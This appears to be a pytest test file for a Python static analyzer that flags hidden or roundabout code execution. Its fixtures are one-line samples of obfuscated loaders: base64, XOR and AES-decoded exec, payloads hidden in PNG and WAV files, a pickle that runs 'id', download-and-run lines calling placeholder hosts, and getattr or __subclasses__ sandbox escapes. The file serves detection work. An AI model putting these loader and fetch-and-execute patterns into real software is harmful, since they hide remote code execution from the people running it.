"""What becomes code, a command or a module's name, by every road that is known: one line of Python each."""

import pytest

from customhouse.source.python.reader import read_python

ROADS = [
    pytest.param("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "exec", ("decoded",), id="exec b64"),
    pytest.param(
        "import zlib,base64\nexec(zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADkUDGQ==')))",
        "exec",
        ("decoded",),
        id="exec zlib",
    ),
    pytest.param(
        "def d(b,k):\n    o=''\n    for c in b:\n        o+=chr(ord(c)^k)\n    return o\nexec(d('abc',3))",
        "exec",
        ("decoded",),
        id="xor loop",
    ),
    pytest.param("exec(''.join(chr(c^42) for c in [1,2,3,4]))", "exec", ("decoded",), id="xor genexpr"),
    pytest.param(
        "def d(x):\n    return ''.join(chr(ord(c)-1) for c in x)\nexec(d('qsjou)2*'))",
        "exec",
        ("decoded",),
        id="sub list",
    ),
    pytest.param(
        "k=b'key'\nexec(bytes(a^k[i%3] for i,a in enumerate(b'abcdef')))", "exec", ("decoded",), id="bytes xor"
    ),
    pytest.param(
        "def d(data):\n    out=bytearray()\n    for i,c in enumerate(data):\n        out.append(c ^ 0x5a)\n    return out.decode()\nexec(d(b'abc'))",
        "exec",
        ("decoded",),
        id="bytearray loop",
    ),
    pytest.param("exec(''.join(map(chr,[112,114,105,110,116,40,49,41])))", "exec", ("decoded",), id="int codes"),
    pytest.param("exec(')1(tnirp'[::-1])", "exec", ("decoded",), id="reverse"),
    pytest.param("import codecs\nexec(codecs.decode('cevag(1)','rot13'))", "exec", ("decoded",), id="rot13"),
    pytest.param("exec('dqjou(1)'.translate(str.maketrans('dqjou','print')))", "exec", ("decoded",), id="translate"),
    pytest.param(
        "T=str.maketrans('abc','xyz')\ndef d(s): return s.translate(T)\nexec(d('qwe'))",
        "exec",
        ("decoded",),
        id="translate func",
    ),
    pytest.param(
        "A='zyxwv'\ndef d(s):\n    r=''\n    for c in s:\n        r+=A[A.index(c)-1]\n    return r\nexec(d('abc'))",
        "exec",
        ("decoded",),
        id="alphabet",
    ),
    pytest.param("exec(bytes.fromhex('7072696e74283129'))", "exec", ("decoded",), id="hex int"),
    pytest.param("exec(int.to_bytes(0x7072696e74283129,8,'big'))", "exec", ("decoded",), id="int.to_bytes"),
    pytest.param(
        "import marshal,types\ntypes.FunctionType(marshal.loads(b'abc'),globals())()",
        "types.FunctionType",
        ("decoded",),
        id="marshal",
    ),
    pytest.param(
        "import marshal,zlib,base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADkUDGQ=='))))",
        "exec",
        ("decoded",),
        id="marshal exec",
    ),
    pytest.param(
        "import pickle,base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIu'))",
        "pickle.loads",
        ("decoded",),
        id="pickle b64",
    ),
    pytest.param(
        "import base64\n__import__(base64.b64decode('b3M=').decode()).system('id')",
        "__import__",
        ("decoded",),
        id="import decoded",
    ),
    pytest.param(
        "import base64\nexec(compile(base64.b64decode('cHJpbnQoMSk='),'<s>','exec'))",
        "exec",
        ("decoded",),
        id="compile exec",
    ),
    pytest.param(
        "_=lambda __:__import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=='))",
        "exec",
        ("decoded",),
        id="lambda",
    ),
    pytest.param(
        "import importlib.util,base64\nspec=importlib.util.spec_from_loader('m',loader=None)\nm=importlib.util.module_from_spec(spec)\nexec(base64.b64decode('cHJpbnQoMSk='),m.__dict__)",
        "exec",
        ("decoded",),
        id="importlib bytes",
    ),
    pytest.param(
        "import subprocess,sys,base64\nsubprocess.run([sys.executable,'-c',base64.b64decode('cHJpbnQoMSk=').decode()])",
        "subprocess.run",
        ("decoded",),
        id="subprocess -c",
    ),
    pytest.param(
        "import subprocess,sys,base64\np=base64.b64decode(B).decode()\nsubprocess.Popen([sys.executable,'-c',p])",
        "subprocess.Popen",
        ("decoded",),
        id="subprocess -c var",
    ),
    pytest.param("exec(open('data.txt').read())", "exec", ("file",), id="exec open"),
    pytest.param(
        "import os\np=os.path.join(os.path.dirname(__file__),'logo.png')\nwith open(p,'rb') as f:\n    d=f.read()\nexec(d[100:])",
        "exec",
        ("file", "self"),
        id="exec open png",
    ),
    pytest.param(
        "from pathlib import Path\nexec(Path(__file__).with_name('x.json').read_text())",
        "exec",
        ("file", "self"),
        id="exec pathlib",
    ),
    pytest.param("import pkgutil\nexec(pkgutil.get_data(__name__,'x.dat'))", "exec", ("file",), id="exec pkgutil"),
    pytest.param(
        "from importlib.resources import files\nexec(files('p').joinpath('x.dat').read_text())",
        "exec",
        ("file",),
        id="exec resources",
    ),
    pytest.param(
        "import wave,base64\nw=wave.open('ringtone.wav','rb')\nraw=base64.b64decode(w.readframes(w.getnframes()))\nk=raw[:8]\nd=bytes(b^k[i%8] for i,b in enumerate(raw[8:]))\nexec(d)",
        "exec",
        ("decoded", "file"),
        id="wave",
    ),
    pytest.param(
        "import wave,base64,urllib.request,subprocess,sys\nurllib.request.urlretrieve('http://203.0.113.5/r.wav','/tmp/r.wav')\nwith wave.open('/tmp/r.wav','rb') as w:\n    raw=base64.b64decode(w.readframes(w.getnframes()))\nsubprocess.Popen([sys.executable,'-c',raw.decode()])",
        "subprocess.Popen",
        ("network", "decoded", "file"),
        id="wave fetched",
    ),
    pytest.param(
        "from PIL import Image\nimg=Image.open('logo.png')\nbits=''.join(str(p[0]&1) for p in img.getdata())\nexec(bytes(int(bits[i:i+8],2) for i in range(0,len(bits),8)))",
        "exec",
        ("file",),
        id="png PIL",
    ),
    pytest.param(
        "import urllib.request\nexec(urllib.request.urlopen('http://x.invalid/a').read())",
        "exec",
        ("network",),
        id="urlopen exec",
    ),
    pytest.param(
        "import requests\nexec(requests.get('http://x.invalid/a').text)", "exec", ("network",), id="requests exec"
    ),
    pytest.param(
        "import requests,subprocess,tempfile\nr=requests.get('http://x.invalid/a')\nwith open('/tmp/x','wb') as f:\n    f.write(r.content)\nsubprocess.Popen(['/tmp/x'])",
        "subprocess.Popen",
        ("network",),
        id="requests write run",
    ),
    pytest.param(
        "import urllib.request,os\nurllib.request.urlretrieve('http://x.invalid/a','/tmp/x')\nos.system('/tmp/x')",
        "os.system",
        ("network",),
        id="urlretrieve run",
    ),
    pytest.param(
        "import threading,requests\ndef f():\n    exec(requests.get('http://x.invalid/a').text)\nthreading.Thread(target=f).start()",
        "exec",
        ("network",),
        id="thread",
    ),
    pytest.param(
        "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAA'))",
        "exec",
        ("decoded",),
        id="fernet",
    ),
    pytest.param(
        "from Crypto.Cipher import AES\nc=AES.new(b'k',AES.MODE_CBC,b'iv')\nexec(c.decrypt(b'xx'))",
        "exec",
        ("decoded",),
        id="aes",
    ),
    pytest.param(
        "s='7072696e74283129'\no=''\nfor i in range(0,len(s),2):\n    o+=chr(int(s[i:i+2],16))\nexec(o)",
        "exec",
        ("decoded",),
        id="hide loop assign",
    ),
    pytest.param(
        "class D:\n    def __init__(self,k): self.k=k\n    def d(self,s): return ''.join(chr(ord(c)^self.k) for c in s)\nexec(D(3).d('abc'))",
        "exec",
        ("decoded",),
        id="class decode",
    ),
]

WAYS = [
    pytest.param(
        "import builtins\ngetattr(builtins,'ex'+'ec')('print(1)')", ("put-together", "exec"), id="builtins getattr"
    ),
    pytest.param("__builtins__['eval']('print(1)')", ("by-name", "eval"), id="__builtins__"),
    pytest.param("__builtins__.__dict__['ex'+'ec']('print(1)')", ("put-together", "exec"), id="__builtins__ dict"),
    pytest.param("import os\ngetattr(os,'sys'+'tem')('id')", ("put-together", "os.system"), id="getattr os"),
    pytest.param(
        "import os,base64\ngetattr(os,base64.b64decode('c3lzdGVt').decode())('id')",
        ("put-together", "os.system"),
        id="getattr decoded",
    ),
    pytest.param("(lambda:0).__globals__['__builtins__']['exec']('print(1)')", ("by-name", "exec"), id="type() trick"),
    pytest.param(
        "().__class__.__base__.__subclasses__()[100].__init__.__globals__['sys'].modules['os'].system('id')",
        ("internals", "os.system"),
        id="subclasses",
    ),
    pytest.param(
        "O=globals()\nO['a']=getattr(__builtins__,'ex'+'ec')\nO['a']('print(1)')",
        ("put-together", "exec"),
        id="hyperion",
    ),
]


@pytest.mark.parametrize(("text", "callee", "origins"), ROADS)
def test_where_it_came_from_is_told(text, callee, origins):
    facts = read_python("a.py", text.encode())
    assert (callee, origins) in {(each.callee, each.origins) for each in facts.calls}


@pytest.mark.parametrize(("text", "way"), WAYS)
def test_a_roundabout_way_is_told(text, way):
    facts = read_python("a.py", text.encode())
    assert way in {(each.how, each.callee) for each in facts.indirections}


QUIET = [
    pytest.param("ns = {}\nexec('def f(a): return a', ns)", id="code generation"),
    pytest.param(
        "lines = []\nfor n in ('a', 'b'):\n    lines.append(f'{n} = 1')\nexec('\\n'.join(lines))", id="joined lines"
    ),
    pytest.param("bases = []\nfor b in reversed(bases):\n    exec('x = 1')", id="reversed list"),
    pytest.param("import types\ndef f(x):\n    return isinstance(x, types.CodeType)", id="isinstance"),
    pytest.param("import subprocess\nsubprocess.run(['git', 'describe'])", id="a plain command"),
    pytest.param(
        "import sys, base64, subprocess\nline = sys.stdin.readline().strip()\nsubprocess.Popen(base64.b64decode(line))",
        id="a worker that is spoken to",
    ),
]


@pytest.mark.parametrize("text", QUIET)
def test_ordinary_code_is_neither_hidden_nor_roundabout(text):
    facts = read_python("a.py", text.encode())
    assert all("decoded" not in call.origins for call in facts.calls)
    assert facts.indirections == ()


CARRIED_OUT = [
    ("def d(b, k):\n    return bytes(x ^ k for x in b).decode()\nimport os\nos.system(d([57, 38, 58], 85))", "lso"),
    ("L = ['dlrow', 'olleh']\ndef d(i):\n    return L[i - 17][::-1]\nimport os\nos.system(d(18))", "hello"),
    (
        "def d(s):\n    o = ''\n    for c in s:\n        o += chr(ord(c) - 1)\n    return o\nimport os\nos.system(d('mt'))",
        "ls",
    ),
    (
        "def d(b):\n    o = bytearray()\n    for i, c in enumerate(b):\n        o.append(c ^ (90 + i))\n    return o.decode()\n\nimport os\nos.system(d([54, 40]))",
        "ls",
    ),
    ("d = lambda s, k: ''.join(chr(ord(c) - k) for c in s)\nimport os\nos.system(d('mt', 1))", "ls"),
]


@pytest.mark.parametrize(("text", "command"), CARRIED_OUT)
def test_a_decoder_written_by_hand_is_carried_out_on_constants(text, command):
    (call,) = [each for each in read_python("a.py", text.encode()).calls if each.callee == "os.system"]
    assert call.arguments == (command,)
    assert call.origins == ("decoded",)


@pytest.mark.parametrize(
    "body",
    [
        "    while True:\n        b += 1\n    return b",
        "    if b:\n        return 'x'\n    return 'y'",
        "    return d(b)",
        "    for i in range(10**9):\n        b += 1\n    return str(b)",
    ],
)
def test_what_is_no_decoder_stays_unknown(body):
    facts = read_python("a.py", f"def d(b):\n{body}\nimport os\nos.system(d(1))\n".encode())
    assert [each.arguments for each in facts.calls if each.callee == "os.system"] == [(None,)]
    assert facts.unread == ""
